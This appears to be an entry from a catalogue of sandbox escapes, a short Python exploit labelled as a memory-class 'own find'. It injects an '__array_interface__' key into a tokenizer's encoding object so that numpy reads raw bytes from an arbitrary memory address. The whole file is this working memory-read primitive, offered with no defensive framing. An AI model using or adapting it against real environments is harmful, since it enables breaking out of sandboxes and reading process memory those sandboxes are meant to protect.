"""Class: memory. Source: own find. Escape: a batch of encodings answers attributes from its keys."""

import numpy as np


def attack(model, tokenizer, address):
    enc = tokenizer("the cat")
    enc["__array_interface__"] = {
        "shape": (6,),
        "typestr": "|u1",
        "data": (address, True),
        "version": 3,
    }
    return (np.zeros(6, dtype=np.uint8) | enc).tobytes()
